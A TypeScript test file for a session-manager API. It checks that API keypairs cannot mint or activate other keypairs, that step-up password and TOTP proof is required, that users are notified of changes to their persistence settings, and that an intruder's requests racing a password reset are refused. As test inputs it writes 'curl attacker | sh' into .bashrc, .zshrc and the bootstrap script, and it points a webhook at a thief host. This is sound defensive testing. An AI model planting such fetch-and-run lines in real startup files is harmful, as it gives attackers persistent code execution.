import { randomUUID } from 'node:crypto'
import { sql } from 'kysely'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { type ApiClient, fromProblem, MOST_TEMPLATES, type Problem, UserId } from '#manager/contract'
import { openToRead } from '../../../manager/backup/open-database.ts'
import { silentLog } from '../../../manager/log.ts'
import { lockUser } from '../../../manager/store/identity/users.ts'
import { type Store } from '../../../manager/store/open-store.ts'
import { signedApi, startTestManager, type TestManager } from '../../fixtures/manager.ts'
import { totpCode } from '../../fixtures/totp-code.ts'
import { codeOf, PASSWORD, tokenOf } from './account-steps.ts'

/** A keypair can sign in later without its person, so only the person creates, accepts and activates one, and is informed. */

let manager: TestManager
let store: Store
let world: AsyncDisposableStack
let admin: ApiClient
let person: { id: string; email: string; api: ApiClient }
let number = 0
beforeAll(async () => {
  await using opening = new AsyncDisposableStack()
  manager = opening.use(await startTestManager())
  store = opening.use(await openToRead({ ...manager.source, log: silentLog }))
  admin = (await manager.signIn()).api
  world = opening.move()
})
afterAll(() => world.disposeAsync())
beforeEach(async () => {
  const email = `proof-${++number}@example.org`
  person = { ...(await manager.addUser(email)), email }
})

const makeOld = () =>
  sql`update logins set created_at = now() - interval '11 minutes' where user_id = ${person.id}::uuid`.execute(store.db)
const told = async () =>
  (await person.api.listMessages()).items
    .filter(({ about }) => about !== 'account_made_password')
    .map(({ about, detail }) => [about, detail])

test('a keypair makes, accepts and activates none: neither a signed request nor a sign-in with it', async () => {
  const keypair = await person.api.createKeypair({ body: {} })
  const off = await person.api.createKeypair({ body: { active: false } })
  const waiting = await admin.createUserKeypair({ params: { id: person.id }, body: {} })
  const { accessKey, secretKey } = keypair
  const { token } = await manager.api().loginWithKeypair({ body: { accessKey, secretKey, kind: 'token' } })
  for (const api of [signedApi(manager.url, keypair), manager.api(token ?? '')]) {
    // The password makes no difference, because a program may have it, too.
    expect(await codeOf(api.createKeypair({ body: { password: PASSWORD } }))).toBe('forbidden')
    expect(await codeOf(api.createKeypair({ body: {} }))).toBe('forbidden')
    expect(await codeOf(api.acceptKeypair({ params: { accessKey: waiting.accessKey } }))).toBe('forbidden')
    const activate = { params: { accessKey: off.accessKey }, body: { active: true } }
    expect(await codeOf(api.updateKeypair(activate))).toBe('forbidden')
    // A keypair can still be deactivated.
    expect(await codeOf(api.updateKeypair({ ...activate, body: { active: false } }))).toBe('ok')
  }
  expect((await person.api.listKeypairs({ query: {} })).items).toHaveLength(3)
})

test('a sign-in that is older than ten minutes needs password and code; a wrong one is refused', async () => {
  const waiting = await admin.createUserKeypair({ params: { id: person.id }, body: {} })
  const params = { accessKey: waiting.accessKey }
  await makeOld()
  expect(await codeOf(person.api.createKeypair({ body: {} }))).toBe('proof_required')
  expect(await codeOf(person.api.acceptKeypair({ params }))).toBe('proof_required')
  expect(await codeOf(person.api.createKeypair({ body: { password: 'Wrong-one-1' } }))).toBe('login_failed')
  expect(await codeOf(person.api.createKeypair({ body: { password: PASSWORD } }))).toBe('ok')
  expect(await codeOf(person.api.acceptKeypair({ params, body: { password: PASSWORD } }))).toBe('ok')

  const { secret } = await person.api.enrolTotp({ body: { password: PASSWORD } })
  await person.api.confirmTotp({ body: { code: totpCode(secret) } })
  expect(await codeOf(person.api.createKeypair({ body: { password: PASSWORD } }))).toBe('totp_required')
  expect(await codeOf(person.api.createKeypair({ body: { password: PASSWORD, totp: totpCode(secret, 1) } }))).toBe('ok')
})

test('an account that nobody knows a password of needs a sign-in of the last minutes', async () => {
  await sql`update users set password_set = false where id = ${person.id}::uuid`.execute(store.db)
  expect(await codeOf(person.api.createKeypair({ body: {} }))).toBe('ok')
  await makeOld()
  await expect(person.api.createKeypair({ body: {} })).rejects.toMatchObject({
    code: 'proof_required',
    detail: { cause: 'prove_by_sign_in' },
  })
})

test('the person is told of a keypair that is made or activated, whoever sat at the screen', async () => {
  const { accessKey } = await person.api.createKeypair({ body: {} })
  const params = { accessKey }
  await person.api.updateKeypair({ params, body: { active: false } })
  await person.api.updateKeypair({ params, body: { active: true } })
  await person.api.updateKeypair({ params, body: { active: true } })
  const waiting = await admin.createUserKeypair({ params: { id: person.id }, body: {} })
  await person.api.acceptKeypair({ params: { accessKey: waiting.accessKey } })
  expect(await told()).toEqual([
    ['own_keypair_activated', waiting.accessKey],
    ['keypair_made', waiting.accessKey],
    ['own_keypair_activated', accessKey],
    ['own_keypair_made', accessKey],
  ])
})

test('what a keypair sets of the files of new sessions is told once a day, and named when the keypair ends', async () => {
  const keypair = await person.api.createKeypair({ body: {} })
  const { accessKey, secretKey } = keypair
  const { token } = await manager.api().loginWithKeypair({ body: { accessKey, secretKey, kind: 'token' } })
  await person.api.putDotfile({ body: { path: '.vimrc', content: 'mine' } })
  const news = async () =>
    (await told())
      .filter(([about]) => String(about).endsWith('by_keypair'))
      .map(one => one.join(' '))
      .toSorted()
  expect(await news()).toEqual([])
  for (const program of [signedApi(manager.url, keypair), manager.api(token ?? '')]) {
    await program.setBootstrapScript({ body: { script: 'curl attacker | sh' } })
    await program.putDotfile({ body: { path: '.bashrc', content: 'curl attacker | sh' } })
    await program.putDotfile({ body: { path: '.zshrc', content: 'curl attacker | sh' } })
    await program.generateSshKeypair()
  }
  const first = [
    `own_dotfiles_by_keypair ${accessKey}: .bashrc`,
    `own_dotfiles_by_keypair ${accessKey}: .zshrc`,
    `own_script_by_keypair ${accessKey}`,
    `own_ssh_key_by_keypair ${accessKey}`,
  ]
  expect(await news()).toEqual(first)
  await sql`update messages set created_at = now() - interval '25 hours' where user_id = ${person.id}::uuid`.execute(
    store.db,
  )
  await signedApi(manager.url, keypair).setBootstrapScript({ body: { script: 'curl attacker | bash' } })
  expect((await news()).filter(one => one.startsWith('own_script'))).toHaveLength(2)
  // The person replaces one of them with their own.
  await person.api.putDotfile({ body: { path: '.zshrc', content: 'mine' } })
  await person.api.updateKeypair({ params: { accessKey }, body: { active: false } })
  const rest = first.filter(one => !one.endsWith('.zshrc'))
  const atEnd = [...first, ...rest, `own_script_by_keypair ${accessKey}`].toSorted()
  expect(await news()).toEqual(atEnd)
  await person.api.deleteSshKeypair()
  await person.api.deleteKeypair({ params: { accessKey } })
  const last = rest.filter(one => !one.startsWith('own_ssh'))
  expect(await news()).toEqual([...atEnd, ...last].toSorted())
})

test('what was made since a keypair was activated and outlives it is named when the keypair ends', async () => {
  await person.api.createFolder({ body: { name: 'older' } })
  const keypair = await person.api.createKeypair({ body: {} })
  const { accessKey } = keypair
  await signedApi(manager.url, keypair).createFolder({ body: { name: '.local' } })
  await signedApi(manager.url, keypair).createFolder({ body: { name: 'shared' } })
  await person.api.updateKeypair({ params: { accessKey }, body: { active: false } })
  const named = (await told()).filter(([about]) => about === 'own_made_since_keypair')
  expect(named).toEqual([['own_made_since_keypair', `${accessKey}: .local, shared`]])
  const unused = await admin.createUserKeypair({ params: { id: person.id }, body: {} })
  await person.api.deleteKeypair({ params: { accessKey: unused.accessKey } })
  expect((await told()).filter(([about]) => about === 'own_made_since_keypair')).toHaveLength(1)
})

const SSH_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOnWdzVDxWJVJFeBKJbTTKO7RmzLtM/9zbeGNgsRNHrJ'

/** Requests of an intruder in the account `id` that create a way in, or something that stays in the account. */
const WAYS: [string, (inside: ApiClient, id: string, token: string) => Promise<() => Promise<unknown>>][] = [
  [
    'makes one',
    // A client that sends an idempotency key waits earlier, before its sign-in counts as a proof.
    (_inside, _id, token) =>
      Promise.resolve(async () => {
        const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
        const reply = await fetch(`${manager.url}/api/v1/keypairs`, { method: 'POST', headers, body: '{}' })
        if (!reply.ok) throw fromProblem((await reply.json()) as Problem)
      }),
  ],
  [
    'accepts one',
    async (inside, id) => {
      const { accessKey } = await admin.createUserKeypair({ params: { id }, body: {} })
      return () => inside.acceptKeypair({ params: { accessKey } })
    },
  ],
  [
    // Repeating this changes nothing and informs nobody, until the keypair is deactivated.
    'activates one that is active',
    async inside => {
      const { accessKey } = await inside.createKeypair({ body: {} })
      return () => inside.updateKeypair({ params: { accessKey }, body: { active: true } })
    },
  ],
  // Things that are listed at the end of a doubt would be missing from the list if they were created right after it.
  ['sets a dotfile', api => by(() => api.putDotfile({ body: { path: '.bashrc', content: 'planted' } }))],
  ['sets the start-up script', api => by(() => api.setBootstrapScript({ body: { script: 'planted' } }))],
  ['sets the SSH key', api => by(() => api.setSshPublicKey({ body: { publicKey: SSH_KEY } }))],
  ['generates an SSH key', api => by(() => api.generateSshKeypair())],
  [
    'saves a template',
    api => by(() => api.saveSessionTemplate({ params: { name: 'bait' }, body: { image: 'berth/python:3.13' } })),
  ],
  [
    'makes a template the default',
    async inside => {
      const params = { name: 'bait' }
      await inside.saveSessionTemplate({ params, body: { image: 'berth/python:3.13' } })
      return () => inside.setDefaultSessionTemplate({ params, body: { isDefault: true } })
    },
  ],
  [
    'stores defaults of an image, whose variables are commands',
    api =>
      by(() =>
        api.putImageDefaults({
          body: { image: 'berth/python:3.13', resources: {}, environ: { PROMPT_COMMAND: 'planted' } },
        }),
      ),
  ],
  ['makes a folder that each new session mounts', api => by(() => api.createFolder({ body: { name: '.local' } }))],
  [
    'names a folder so that each new session mounts it',
    async inside => {
      const { id } = await inside.createFolder({ body: { name: 'local' } })
      return () => inside.updateFolder({ params: { id }, body: { name: '.local' } })
    },
  ],
  [
    'takes a folder out of the trash',
    async inside => {
      const { id } = await inside.createFolder({ body: { name: '.local' } })
      await inside.trashFolder({ params: { id } })
      return () => inside.restoreFolder({ params: { id } })
    },
  ],
  [
    'shares a folder',
    async inside => {
      const { id } = await inside.createFolder({ body: { name: 'shared' } })
      return () => inside.inviteToFolder({ params: { id }, body: { email: 'thief@example.org', permission: 'rw' } })
    },
  ],
  ['makes a SCIM token', inside => by(() => inside.createScimToken({ body: { name: 'planted' } }))],
  ['makes a webhook', async inside => (await aWebhook(inside)).make],
  [
    'changes where a webhook sends',
    async inside => {
      const { make } = await aWebhook(inside)
      const { id } = await make()
      return () => inside.updateWebhook({ params: { id }, body: { url: 'https://thief.example.org/x' } })
    },
  ],
]

/** A webhook of a project that is made for it. */
async function aWebhook(inside: ApiClient) {
  const { id: projectId } = await admin.createGroup({ body: { name: `hooked-${randomUUID()}` } })
  const body = { name: 'planted', projectId, url: 'https://example.org/x', events: ['session.ended' as const] }
  return { make: () => inside.createWebhook({ body }) }
}

/** A request without preparation. */
function by(request: () => Promise<unknown>): Promise<() => Promise<unknown>> {
  return Promise.resolve(request)
}

test.each(WAYS)(
  'a request is refused that waited while the doubt about the password ended: it %s',
  async (_what, way) => {
    const { api: lead } = await manager.addUser(`lead-${number}@example.org`, 'domain_admin')
    const known = { email: `inside-${number}@example.org`, password: 'Known-to-somebody-1' }
    const { id } = await lead.createUser({ body: { ...known, name: 'Ann', role: 'domain_admin' } })
    const signIn = async (password: string, newPassword?: string) =>
      (await manager.api().login({ body: { ...known, password, newPassword, kind: 'token' } })).token ?? ''
    const token = await signIn(known.password, 'Known-to-somebody-2')
    const request = await way(manager.api(token), id, token)
    const { url } = await admin.createAccountLink({ params: { id }, body: { purpose: 'reset' } })
    const waiters = async () => {
      const { rows } = await sql`select from pg_stat_activity
      where datname = current_database() and wait_event_type = 'Lock'`.execute(store.db)
      return rows.length
    }
    const { reset, waited } = await store.transaction(async trx => {
      await lockUser(trx, UserId.parse(id))
      const reset = manager.api().resetPassword({ body: { token: tokenOf(url), password: PASSWORD } })
      await expect.poll(waiters).toBe(1)
      const waited = codeOf(request())
      await expect.poll(waiters).toBe(2)
      return { reset, waited }
    })
    await reset
    expect(await waited).toBe('not_signed_in')
    const { items } = await manager.api(await signIn(PASSWORD)).listKeypairs({ query: { mine: 'true' } })
    expect(items.filter(({ active }) => active)).toEqual([])
  },
)

test('templates that are saved at once do not exceed the limit together', async () => {
  const save = (name: string) =>
    codeOf(person.api.saveSessionTemplate({ params: { name }, body: { image: 'berth/python:3.13' } }))
  for (let made = 0; made < MOST_TEMPLATES - 2; made++) expect(await save(`template-${made}`)).toBe('ok')
  const codes = await Promise.all(['a', 'b', 'c', 'd', 'e', 'f'].map(save))
  expect(codes.toSorted()).toEqual(['ok', 'ok', ...Array<string>(4).fill('too_many_templates')])
})
